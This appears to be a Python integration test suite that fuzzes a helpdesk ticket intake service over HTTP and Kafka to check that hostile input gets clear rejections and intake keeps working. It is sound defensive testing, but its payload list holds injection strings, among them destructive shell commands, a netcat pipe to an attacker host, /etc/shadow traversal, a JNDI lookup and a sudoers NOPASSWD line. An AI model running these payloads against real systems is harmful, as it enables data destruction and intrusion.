"""Hostile input at both doors: every payload gets a clear answer, and intake keeps going.

Hypothesis builds requests with hostile values (injection strings, control and
bidirectional characters, huge and deeply nested values, wrong types, unknown fields) and
raw bodies that are no request at all. Over HTTP each gets a 4xx with field errors (or a
202 when it happens to be valid), never a 5xx and never an echo of a submitted value. On the
topic each gets a TicketSubmitted/TicketRejected or a DLQ record, and a valid request
published after them is still submitted. Examples are kept modest so the suite stays fast.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer, TopicPartition
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from signed_requests import Registered, register

from schemas import IDENTIFIER_PATTERN
from schemas.topics import DLQ_SUFFIX, HELPDESK_REQUESTS, event_topic
from services.intake.bootstrap import IntakeService
from services.intake.examples import example_request
from services.intake.http import create_app
from services.intake.sealing import load_recipient, seal_request
from services.intake.settings import IntakeSettings
from services.runtime.keys import init_keys, key_set_paths

pytestmark = pytest.mark.integration

SUBMITTED = event_topic("TicketSubmitted")
REJECTED = event_topic("TicketRejected")
DLQ = HELPDESK_REQUESTS + DLQ_SUFFIX
IDENTIFIER = re.compile(IDENTIFIER_PATTERN)

FUZZ = settings(max_examples=40, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                       HealthCheck.function_scoped_fixture])

# --- what hostile looks like -----------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE tickets; --", '{"$gt": ""}', "$where: sleep(1000)", "$(reboot)",
    "`rm -rf /`", "; shutdown -h now", "| nc attacker 4444", "../../../../etc/shadow",
    "<script>alert(1)</script>", "{{7*7}}${7*7}", "${jndi:ldap://x/a}", "%s%s%s%n",
    "\x00\x01\x1b[31m", "\u202eevil\u202c", "\u200b\ufeff", "line\r\nInjected: header",
    "A" * 5000, "é" * 3000, "😀" * 2000, "null", "0", "-1", "1e309", "true",
    "root\nALL ALL=(ALL) NOPASSWD: ALL", "-----BEGIN OPENSSH PRIVATE KEY-----",
]
texts = st.sampled_from(INJECTIONS) | st.text(max_size=60) | st.text(
    st.characters(codec="utf-8"), min_size=1, max_size=300)
huge = st.builds(lambda c, n: c * n, st.sampled_from(["x", "é", "😀", "\x00"]),
                 st.integers(20_000, 120_000))
scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False,
                                                                allow_infinity=False) | texts
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
    texts, inner, max_size=4), max_leaves=8) | huge

PATHS = [
    "ticket_id", "revision", "account_id", "department", "channel", "language", "server",
    "server.ip", "server.service_id", "server.service_name", "category", "description",
    "error_messages", "parameters", "parameters.unit", "parameters.packages", "credentials",
    "credentials.username", "credentials.password", "authorization",
    "authorization.statement", "authorization.accepts_backup_responsibility",
    "authorization.signed_by", "authorization.signed_at",
]
mutations = st.lists(
    st.tuples(st.sampled_from([*PATHS, "+extra"]), st.sampled_from(["set", "delete"]), values),
    min_size=1, max_size=3,
)
raw_bodies = (
    st.binary(max_size=300)
    | values.map(lambda v: json.dumps(v).encode())
    | st.integers(1, 3000).map(lambda n: b"[" * n + b"]" * n)
    | st.sampled_from([b'{"ticket_id": "\\ud800", "revision": 1}', b"", b"{}", b"[]",
                       b'{"revision": 1e999}', b'{"ticket_id": NaN}', b"\xef\xbb\xbf{}"])
)


@dataclass
class Mutated:
    document: dict[str, Any]
    values: list[str] = field(default_factory=list)  # hostile strings set as values
    keys: set[str] = field(default_factory=set)  # strings used as keys anywhere


def _strings(value: Any, out: Mutated) -> None:
    if isinstance(value, str):
        out.values.append(value)
    elif isinstance(value, list):
        for item in value:
            _strings(item, out)
    elif isinstance(value, dict):
        for key, item in value.items():
            out.keys.add(key)
            _strings(item, out)


def mutate(document: dict[str, Any], changes: list[tuple[str, str, Any]]) -> Mutated:
    result = Mutated(document=document)
    for path, action, value in changes:
        if path == "+extra":
            document[f"x_{len(document)}"] = value
            _strings(value, result)
            continue
        *parents, last = path.split(".")
        target: Any = document
        for part in parents:
            target = target.get(part) if isinstance(target, dict) else None
        if not isinstance(target, dict):
            continue
        if action == "delete":
            target.pop(last, None)
        else:
            target[last] = value
            _strings(value, result)
    return result


# --- one intake for the module ---------------------------------------------------------


@dataclass
class Running:
    service: IntakeService
    app: FastAPI
    http: httpx.AsyncClient
    keys: Path
    desk: Registered
    seen: list[Any] = field(default_factory=list)
    arrived: asyncio.Event = field(default_factory=asyncio.Event)

    @property
    def prefix(self) -> str:
        return self.service.settings.kafka_topic_prefix

    def sealed(self, **changes: Any) -> dict[str, Any]:
        return seal_request(example_request(**changes),
                            recipient=load_recipient(key_set_paths(self.keys).sealing_public))

    def on(self, topic: str, key: bytes) -> list[Any]:
        return [r for r in self.seen if r.topic == self.prefix + topic and r.key == key]

    async def wait(self, topic: str, key: bytes, timeout: float = 60) -> list[Any]:
        deadline = asyncio.get_running_loop().time() + timeout
        while not (got := self.on(topic, key)):
            if asyncio.get_running_loop().time() > deadline:
                raise AssertionError(f"nothing for {key!r} on {topic} after {timeout}s")
            self.arrived.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.arrived.wait(), 0.5)
        return got


@pytest.fixture(scope="module")
async def running(
    kafka_bootstrap: str, topic_prefix: str, database_name: str, real_parts: Any,
    tmp_path_factory: pytest.TempPathFactory,
) -> AsyncIterator[Running]:
    keys = tmp_path_factory.mktemp("intake-fuzz") / "keys"
    init_keys(keys)
    service = IntakeService(IntakeSettings(
        kafka_bootstrap_servers=kafka_bootstrap, kafka_topic_prefix=topic_prefix,
        mongodb_uri=real_parts.mongodb_uri, mongodb_database=database_name,
        intervention_keys_dir=str(keys), handler_retry_backoff_s=0.05,
        intake_rate_limit_per_minute=1_000_000, intake_rate_limit_burst=1_000_000,
    ))
    app = create_app(service)
    consumer = AIOKafkaConsumer(bootstrap_servers=kafka_bootstrap, enable_auto_commit=False)
    await consumer.start()
    await consumer._client.force_metadata_update()
    topics = [topic_prefix + t for t in (SUBMITTED, REJECTED, DLQ)]
    parts = [TopicPartition(t, p) for t in topics for p in consumer.partitions_for_topic(t) or ()]
    consumer.assign(parts)
    await consumer.seek_to_beginning(*parts)
    async with app.router.lifespan_context(app):
        desk = await register(service.runtime.db, keys, "fuzz-desk")
        http = httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://intake.test", auth=desk.auth())
        state = Running(service=service, app=app, http=http, keys=keys, desk=desk)

        async def pump() -> None:
            while True:
                batch = await consumer.getmany(timeout_ms=200)
                for records in batch.values():
                    state.seen.extend(records)
                if batch:
                    state.arrived.set()

        task = asyncio.create_task(pump())
        yield state
        task.cancel()
        await http.aclose()
        with contextlib.suppress(asyncio.CancelledError):
            await task
    await consumer.stop()


# --- HTTP ------------------------------------------------------------------------------


def _check_answer(response: httpx.Response, sent: Mutated | None) -> None:
    assert response.status_code in {202, 409, 413, 422}, (response.status_code, response.text)
    body = response.json()
    if response.status_code == 202:
        assert body["status"] == "submitted"
        return
    errors = body["errors"]
    assert errors
    for error in errors:
        assert isinstance(error["field"], str)
        assert error["field"]
        assert isinstance(error["message"], str)
        assert len(error["message"]) > 5
    if sent is not None:
        # No answer echoes a submitted value (keys the sender invented may be named).
        echoed = [v for v in sent.values if len(v) >= 12 and v not in sent.keys
                  and v in response.text]
        assert echoed == []


@FUZZ
@given(changes=mutations)
async def test_hostile_requests_over_http_get_clear_answers(
    running: Running, changes: list[tuple[str, str, Any]]
) -> None:
    document = example_request(
        ticket_id=f"FZ-{uuid.uuid4().hex[:12]}",
        credentials={"username": "root", "password": f"Pw-{uuid.uuid4().hex}"},
    )
    sent = mutate(document, changes)
    try:
        body = json.dumps(document).encode()
    except (TypeError, ValueError):  # pragma: no cover - values are JSON-safe by design
        return
    _check_answer(await running.http.post("/v1/tickets", content=body), sent)


@FUZZ
@given(body=raw_bodies)
async def test_bodies_that_are_no_request_get_clear_answers_over_http(
    running: Running, body: bytes
) -> None:
    _check_answer(await running.http.post("/v1/tickets", content=body), None)


async def test_http_serves_normally_after_the_fuzz(running: Running) -> None:
    tid = f"FZ-after-{uuid.uuid4().hex[:8]}"
    response = await running.http.post("/v1/tickets", json=example_request(ticket_id=tid))
    assert response.status_code == 202
    await running.wait(SUBMITTED, tid.encode())
    from services.runtime.ops import health

    assert await health(running.service.runtime) == {"kafka": True, "mongodb": True}


# --- the helpdesk topic ----------------------------------------------------------------


async def test_hostile_messages_on_the_topic_each_get_an_answer_and_the_next_flows(
    running: Running, kafka_bootstrap: str
) -> None:
    run = uuid.uuid4().hex[:8]
    base = running.sealed()
    drawn: list[tuple[str, Any]] = []

    # Hypothesis draws the messages; they are published together below, so the test
    # does not wait for the consumer once per example.
    @FUZZ
    @given(st.one_of(mutations.map(lambda m: ("mutated", m)), raw_bodies.map(lambda b: ("raw", b))))
    def draw(example: tuple[str, Any]) -> None:
        drawn.append(example)

    draw()
    messages: list[tuple[bytes, str | None]] = []
    for n, (kind, example) in enumerate(drawn):
        if kind == "raw":
            messages.append((example, None))
            continue
        document = json.loads(json.dumps(base))
        document["ticket_id"] = f"FZ-{run}-{n}"
        mutate(document, example)
        tid = document.get("ticket_id")
        if isinstance(tid, str) and IDENTIFIER.fullmatch(tid) and not tid.startswith("FZ-"):
            # Keep every named message's ticket distinct, so none is a duplicate of another.
            document["ticket_id"] = tid = f"{tid[:40]}-{run}-{n}"
        messages.append((json.dumps(document).encode(), tid if isinstance(tid, str) else None))

    # The broker itself refuses messages over its 1 MB limit: those never reach intake.
    messages = [(body, tid) for body, tid in messages if len(body) < 900_000]
    key = f"FZ-{run}".encode()
    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap, enable_idempotence=True)
    await producer.start()
    try:
        sent = []
        for body, tid in messages:
            meta = await producer.send_and_wait(running.prefix + HELPDESK_REQUESTS, body, key=key,
                                                headers=await running.desk.topic_headers(body))
            sent.append((meta.partition, meta.offset, tid, body))
        marker = f"FZ-{run}-marker"
        marker_body = json.dumps(running.sealed(ticket_id=marker)).encode()
        await producer.send_and_wait(running.prefix + HELPDESK_REQUESTS, marker_body, key=key,
                                     headers=await running.desk.topic_headers(marker_body))
    finally:
        await producer.stop()

    # Same key, same partition: once the marker is submitted, every fuzz message was handled.
    await running.wait(SUBMITTED, marker.encode())
    await asyncio.sleep(0.5)
    dead: set[tuple[int, int]] = set()
    for record in running.seen:
        if record.topic == running.prefix + DLQ and record.key == key:
            headers = {k: v.decode() for k, v in record.headers}
            assert headers["x-dlq-reason"] in {"decode", "handler"}
            assert headers["x-dlq-error-message"]
            dead.add((int(headers["x-dlq-original-partition"]),
                      int(headers["x-dlq-original-offset"])))
    unanswered = []
    for partition, offset, tid, body in sent:
        answered = (partition, offset) in dead or (tid is not None and (
            running.on(SUBMITTED, tid.encode()) or running.on(REJECTED, tid.encode())))
        if not answered:
            unanswered.append(body[:300])
    assert unanswered == []
    # The draw exercised both answers, not only one of them.
    assert dead
    assert any(running.on(REJECTED, tid.encode()) for _, _, tid, _ in sent if tid)
